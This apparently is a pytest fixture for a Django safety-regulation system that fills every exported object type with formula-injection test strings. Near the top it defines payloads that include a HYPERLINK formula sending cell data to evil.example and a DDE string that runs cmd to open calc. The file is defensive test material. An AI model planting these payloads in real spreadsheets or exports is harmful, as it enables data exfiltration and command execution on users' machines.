"""Formula-like, control-character and other hostile text, put into every kind of object a
download or a list shows, built through the services (a fixture for tests/)."""

from __future__ import annotations

import datetime as dt
import uuid
from typing import Any

import pytest
from django.utils import timezone

from tests.personas import World

MARK = "注入"
# One payload a field: classic formula, DDE, arithmetic, @-function, full-width, tab, CR, a control char.
P_EQ = f'=HYPERLINK("http://evil.example/?d="&A1,"{MARK}")'
P_DDE = f"+cmd|' /C calc'!A0{MARK}"
P_MINUS = f"-2+3+{MARK}"
P_AT = f"@SUM(1+1){MARK}"
P_FULL = f"＝1+1{MARK}"
P_TAB = f"\t=1+1{MARK}"
P_CR = f"\r=1+1{MARK}"
P_CTRL = f"=1\x0b+1{MARK}"  # a vertical tab: python-docx refuses it unless cleaned


@pytest.fixture
def hostile(world: World) -> dict[str, Any]:
    """Formula-like text in the text fields of every kind of object a download shows, built through
    the services."""
    from campaigns import services as campaigns
    from campaigns.choices import PlanKind, UnitRole
    from campaigns.twolists import list_item_save
    from campaigns.units import Resolution, resolve_into
    from enterprises import services as enterprises
    from enterprises.credit_code import make_credit_code
    from escalation.supervision import item_assign
    from hazards import services as hazards
    from hazards.choices import Source
    from ledgers import custom
    from ledgers import services as ledgers
    from ledgers.specs import SPECS
    from ledgers.tests.test_ledgers import SAMPLES
    from orgs.models import Domain, Jurisdiction, Unit
    from risk import services as risk
    from risk.choices import MeasureKind
    from risk.tests.factories import make_point
    from workdays import services as workdays

    office = world.user("office")
    dongshan = Jurisdiction.objects.get(name="东山街道")
    ent = enterprises.enterprise_create(
        actor=office, name=f"{P_EQ}企业", credit_code=make_credit_code("91430381XR0000001"), jurisdiction=dongshan,
        domains=[Domain.objects.get(code="D12")], address=P_DDE, legal_representative=P_MINUS, principal=P_AT,
        safety_manager=P_FULL, phone="+86 138 0000 0000", industry_code="3110")
    hazards.hazard_register(actor=office, enterprise=ent, description=P_EQ, source=Source.GOVERNMENT, place=P_TAB,
                            location=P_CR, reporter=P_MINUS)
    point = make_point(ent, name=f"{P_EQ}岗位", kind="post", location=P_DDE, description=P_CTRL,
                       emergency_actions=f"{P_MINUS}\n{P_CTRL}", duties=f"{P_AT}\n{P_CTRL}", responsible=P_FULL)
    risk.measure_add(actor=None, risk_point=point, kind=MeasureKind.EMERGENCY, level="post", content=P_CTRL,
                     responsible=P_TAB)
    risk.report_submit(actor=None, enterprise=ent, note=P_EQ)
    root = Jurisdiction.objects.get(code="430381")
    campaign = campaigns.campaign_create(actor=None, name=f"{P_EQ}行动", starts_on=dt.date(2024, 1, 1),
                                         ends_on=dt.date(2030, 12, 31), office_unit=Unit.objects.get(name="市安委办"),
                                         jurisdiction=root)
    plan = campaigns.plan_save(actor=None, campaign=campaign, kind=PlanKind.DOMAIN, code="D12", title=P_DDE,
                               short_name=P_MINUS, domain=Domain.objects.get(code="D12"), sort=1,
                               table_caption=P_AT)
    res = Resolution()
    resolve_into(res, "东山街道", UnitRole.LEAD)
    campaigns.task_create(actor=None, plan=plan, title=P_EQ, measures=P_FULL, units=res.assignments,
                          table_group=P_TAB, number=P_AT, responsibility_text=P_CR, source="table", table_year=2024,
                          **campaigns.deadline_values(f"{timezone.localdate().year - 1}年3月底", default_year=2024))
    list_item_save(actor=None, campaign=campaign, unit=Unit.objects.get(name="东山街道"), kind="problem",
                   item=P_EQ, measure=P_DDE, owner=P_MINUS)
    item_assign(actor=office, title=P_EQ, assignee=Unit.objects.get(name="东山街道"),
                deadline=timezone.localdate() + dt.timedelta(days=3), description=P_DDE)
    for key, spec in SPECS.items():
        values = dict(SAMPLES[key])
        text_field = next(n for n in spec.search_fields if not spec.model._meta.get_field(n).choices)
        values[text_field] = P_EQ[:30] if key != "certificates" else P_DDE[:20]
        ledgers.row_create(actor=None, model=spec.model, enterprise=ent, **values)
    definition = custom.definition_save(
        actor=office, definition=None, enterprises=[ent], jurisdictions=[], name=f"{P_EQ}台账", description="",
        target="enterprise", domain=None, remind_days=30, active=True,
        columns=custom.parse_columns(f"+1+1{MARK}栏目|文本|必填\n检测到期|日期|必填|到期"))
    custom.custom_row_save(actor=None, definition=definition, enterprise=ent,
                           values={"c1": P_MINUS, "c2": timezone.localdate() + dt.timedelta(days=5)})
    workdays.year_set_schedule(actor=world.user("sysadmin"), year=2031,
                               days=[workdays.DayEntry(dt.date(2031, 1, 1), False, f"={MARK}元旦")])
    from documents import services as documents
    from documents.registry import get_type
    from documents.tests.helpers import edited, upload

    documents.template_upload(actor=office, doc_type=get_type("campaign_monthly"), note=P_EQ,
                              file=upload(edited("campaign_monthly", before=[P_EQ, P_DDE]), name=f"{P_EQ}.docx"))
    _enforcement(world, ent)
    _accidents(world, ent)
    _tip(ent)
    _credit(world, ent)
    import uuid

    from checks import services as checks

    used = checks.checklist_publish(actor=office, title=f"{P_DDE}日检表", version="2026",
                                    domains=[Domain.objects.get(code="D12")])
    checks.item_save(actor=office, checklist=used, text=P_FULL)
    checks.run_record(actor=office, uuid=uuid.uuid4(), checklist=used, enterprise=ent, place=P_TAB, note=P_CR)
    checklist = checks.checklist_publish(actor=office, title=f"{P_EQ}检查表", version="2026", document_number=P_DDE,
                                         domains=[Domain.objects.get(code="D12")])
    checks.item_save(actor=office, checklist=checklist, clause=P_MINUS, text=P_EQ, note=P_AT)
    return {"enterprise": ent, "point": point, "campaign": campaign, "plan": plan, "checklist": checklist}


def _credit(world: World, ent: Any) -> None:
    """A 严重失信主体名单 entry (the joint-punishment export) with hostile grounds and basis."""
    from credit import services as credit

    regulator = world.user("regulator")
    entry = credit.blacklist_propose(actor=regulator, enterprise=ent, grounds=f"{P_EQ}列入事由", basis=P_DDE)
    credit.blacklist_transition(actor=regulator, entry=entry, action="decide", statement=P_MINUS,
                                listed_on=timezone.localdate())


def _tip(ent: Any) -> None:
    from orgs.models import Jurisdiction
    from tips.services import tip_submit

    tip_submit(kind="hazard", description=f"{P_EQ}举报内容", jurisdiction=Jurisdiction.objects.get(name="东山街道"),
               address=P_DDE, subject=P_MINUS, enterprise=ent, name=P_AT, phone="")


def _enforcement(world: World, ent: Any) -> None:
    """A plan, a committed draw and a recorded inspection with a hazard finding, in hostile text."""
    from checks.tests.factories import own_list
    from enforcement import plans as enforcement_plans
    from enforcement import services as enforcement
    from enforcement.checklists import Answer, checklist_record
    from enforcement.choices import FindingResult, InspectionOrigin, PlanMode
    from enforcement.tests.factories import commit, roster

    regulator = world.user("regulator")
    team = roster(world, 3)
    enforcement_plans.plan_replace(actor=regulator, year=timezone.localdate().year, rows=[{
        "matter": P_EQ, "basis": P_DDE, "mode": PlanMode.RANDOM, "targets": "", "population": P_MINUS,
        "population_total": 10, "draw_count": 2, "draw_ratio": None, "content": P_AT, "method": P_FULL,
        "frequency": 1, "cap": 2, "schedule": P_TAB, "undertaker": P_CR, "joint": P_EQ}])
    commit(world, title=P_EQ, witness_name=P_DDE, strata="all=1")
    inspection = enforcement.inspection_create(actor=regulator, origin=InspectionOrigin.COMPLAINT,
                                               inspectors=team[:2], enterprise=ent)
    inspection = enforcement.inspection_transition(actor=regulator, inspection=inspection, action="start",
                                                   shown=[i.pk for i in team[:2]])
    enforcement.finding_add(actor=regulator, inspection=inspection, text=P_EQ, basis=P_DDE,
                            result=FindingResult.HAZARD, deadline=timezone.localdate() + dt.timedelta(days=10))
    checklist = own_list(world, items=2, title=P_EQ)
    first, second = checklist.items.order_by("position")
    checklist_record(actor=regulator, inspection=inspection, uuid=str(uuid.uuid4()), checklist=checklist,
                     answers=[Answer(first.pk, "fail", P_DDE), Answer(second.pk, "pass", P_AT)])
    enforcement.coercive_measure_issue(actor=regulator, inspection=inspection, measure="seal", reason=P_DDE, days=30,
                                       place=P_MINUS)
    inspection = enforcement.inspection_transition(actor=regulator, inspection=inspection, action="record",
                                                   signer=P_MINUS, summary=P_CTRL, review_days=10)
    for kind in ("enforcement_record", "enforcement_order", "enforcement_review"):
        enforcement.document_issue(actor=regulator, inspection=inspection, kind=kind)
    case = enforcement.case_open(actor=regulator, enterprise=ent, cause=P_EQ, inspection=inspection)
    case = enforcement.case_transition(actor=regulator, case=case, action="investigate")
    case = enforcement.case_transition(actor=regulator, case=case, action="notify", facts=P_DDE, basis=P_MINUS,
                                       penalty_types=["fine"], fine_amount="1000")
    enforcement.case_transition(actor=regulator, case=case, action="decide", penalty_types=["fine"],
                                fine_amount="1000")


def _accidents(world: World, ent: Any) -> None:
    """Typical accidents in hostile text, in last month and in May 2025 (the months the bulletin is fetched for)."""
    from accidents import services as accidents

    office = world.user("office")
    last = timezone.localdate().replace(day=1) - dt.timedelta(days=1)
    for day in (last.replace(day=15), dt.date(2025, 5, 15)):
        when = timezone.make_aware(dt.datetime.combine(day, dt.time(10, 0)))
        accident = accidents.accident_register(actor=office, occurred_at=when, accident_type="machinery", enterprise=ent,
                                               address=P_DDE, summary=P_EQ, deaths=1, typical=True)
        accidents.accident_transition(actor=office, accident=accident, action="investigate")
        accidents.finding_add(actor=office, accident=accident, kind="unit", name=P_MINUS, responsibility=P_CTRL)
